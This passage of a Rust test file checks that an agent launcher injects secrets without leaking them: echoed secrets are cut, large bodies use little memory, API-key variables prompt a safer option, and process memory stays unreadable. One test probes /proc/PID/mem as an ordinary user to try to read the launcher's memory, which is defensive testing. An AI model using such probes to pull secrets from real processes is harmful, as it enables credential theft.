    let output = servers.run(&store, &[&secret], script);
    assert_eq!(good(&output), "401", "{}", describe(&output));
    assert_eq!(
        files_with(&store.store, KEY.as_bytes()),
        [""; 0].map(PathBuf::from)
    );
    assert!(store.store.join("code").exists());
    assert!(
        fs::read_to_string(store.store.join("code"))
            .unwrap()
            .ends_with("cut\nend\n")
    );
    assert_eq!(
        fs::read_to_string(store.store.join("refused")).unwrap(),
        "{\"error\": \"invalid key\"}"
    );
    // The end that TLS had read along with the last bytes was waited for.
    let end = fs::read_to_string(store.store.join("end")).unwrap();
    assert_eq!(end, "to the end");
    let why = err(&output);
    assert!(
        why.contains("127.0.0.1 answered 401: it does not take the secret own"),
        "{why}"
    );
    let lines = requests_in_audit(&store);
    let reasons: Vec<_> = lines
        .iter()
        .filter_map(|line| line["reason"].as_str())
        .collect();
    let echoed = "127.0.0.1: its answer has the secret in it, so it was cut";
    assert_eq!(reasons, [echoed, "it ended before its answer did"]);
}

/// A hundred million bytes go both ways through a launcher that holds little of them.
#[test]
fn big_bodies_pass_in_little_memory() {
    need_mount!();
    need_tools!("python3", "openssl", "curl");
    let store = Store::new();
    let servers = Servers::new(&store, &["good"]);
    let script = "set -e
        head -c 100000000 /dev/zero | curl -sS -m50 -T - $OWN_BASE_URL/chunked; echo
        head -c 100000000 /dev/zero >/tmp/zeros; curl -sS -m50 --data-binary @/tmp/zeros $OWN_BASE_URL/counted; echo
        curl -sS -m50 \"$OWN_BASE_URL/big?100000000\" | sha256sum
        touch ready; until [ -e done ]; do sleep 0.01; done";
    let out = store.base.join("out");
    let mut command = servers.agent(&store, &[&servers.secret("own", "good")], script);
    command
        .stdin(Stdio::null())
        .stdout(fs::File::create(&out).unwrap())
        .stderr(Stdio::null());
    let mut child = command.spawn().unwrap();
    until("all went through", || {
        store.store.join("ready").exists() || child.try_wait().unwrap().is_some()
    });
    let status = fs::read_to_string(format!("/proc/{}/status", child.id())).unwrap();
    fs::write(store.store.join("done"), "").unwrap();
    assert!(child.wait().unwrap().success());
    let said = fs::read_to_string(&out).unwrap();
    let zeros = "got 100000000 fc3f60c21ffbbeecc6d2d5a6bd7a64e20a2c4a8e8ee7ddd1a9f7d2eed6e58a4b";
    let lines: Vec<&str> = said.lines().collect();
    assert!(lines[0].starts_with("got 100000000 "), "{said}");
    assert_eq!(lines[0].len(), zeros.len());
    assert_eq!(lines[0], lines[1]);
    let piece: Vec<u8> = (0..=255).collect();
    let mut sum = Command::new("sha256sum");
    sum.stdin(Stdio::piped()).stdout(Stdio::piped());
    let mut sum = sum.spawn().unwrap();
    let mut pipe = sum.stdin.take().unwrap();
    let block = piece.repeat(4096);
    let mut left = 100_000_000;
    while left > 0 {
        let len = block.len().min(left);
        std::io::Write::write_all(&mut pipe, &block[..len]).unwrap();
        left -= len;
    }
    drop(pipe);
    let wanted = sum.wait_with_output().unwrap();
    assert_eq!(lines[2].as_bytes(), wanted.stdout.trim_ascii());
    let peak = status
        .lines()
        .find_map(|line| line.strip_prefix("VmHWM:"))
        .unwrap();
    let kib: u64 = peak.trim().strip_suffix(" kB").unwrap().parse().unwrap();
    assert!(kib < 90_000, "{peak}");
}

/// Whoever has a key in a variable is told of the way that does not show it, and a host that has a secret is reached by
/// it alone.
#[test]
fn usual_variable_leads_to_the_option_and_the_host_to_the_secret() {
    need_mount!();
    need_tools!("curl", "openssl");
    let store = Store::new();
    let run = |options: &[&str]| {
        let mut command = Command::new(binary());
        command
            .arg("agent")
            .arg("--store")
            .arg(&store.store)
            .args(["--profile", "claude"]);
        let ask = "curl -sS -m20 -o /dev/null https://api.anthropic.com/v1/files; true";
        command.args(options).args(["--", "bash", "-c", ask]);
        command.env("ANTHROPIC_API_KEY", KEY);
        command.env("SSL_CERT_FILE", trusted(&store));
        run_limited(command, LIMIT)
    };
    let why = err(&run(&["--net", "none"]));
    assert!(
        why.contains(
            "--secret anthropic lets it use that without having it, --env ANTHROPIC_API_KEY"
        ),
        "{why}"
    );
    let output = run(&["--secret", "anthropic"]);
    let why = err(&output);
    assert!(!why.contains("is set here"), "{why}");
    assert!(
        why.contains("api.anthropic.com:443 is refused by"),
        "{}",
        describe(&output)
    );
}

/// Whoever has the same user cannot read the launcher's memory, and it leaves no core file.
#[test]
fn launcher_with_a_secret_is_closed_to_its_user() {
    need_mount!();
    need_tools!("setpriv", "openssl");
    let store = Store::new();
    // Root without the right to read everybody's memory is as any user.
    let ordinary = |program: &std::ffi::OsStr| {
        let mut command = Command::new("setpriv");
        if rustix::process::geteuid().is_root() {
            command.args(["--bounding-set", "-sys_ptrace"]);
        }
        command.arg("--").arg(program);
        command
    };
    let script = "touch ready; until [ -e done ]; do sleep 0.01; done";
    let start = |options: &[&str]| {
        let mut command = ordinary(binary().as_ref());
        command
            .arg("agent")
            .arg("--store")
            .arg(&store.store)
            .args(options);
        command
            .args(["--net", "none", "--", "bash", "-c", script])
            .env("KEY", KEY)
            .env("SSL_CERT_FILE", trusted(&store));
        let child = begin(command);
        until("the agent is there", || store.store.join("ready").exists());
        let mut open = ordinary("sh".as_ref());
        open.args(["-c", &format!(": </proc/{}/mem", child.id())]);
        let is_open = run_limited(open, LIMIT).status.success();
        fs::write(store.store.join("done"), "").unwrap();
        assert!(child.wait_with_output().unwrap().status.success());
        fs::remove_file(store.store.join("ready")).unwrap();
        fs::remove_file(store.store.join("done")).unwrap();
        is_open
    };
    let with_secret = start(&["--secret", "own:a.example=env:KEY"]);
    assert_eq!((with_secret, start(&[])), (false, true));
}
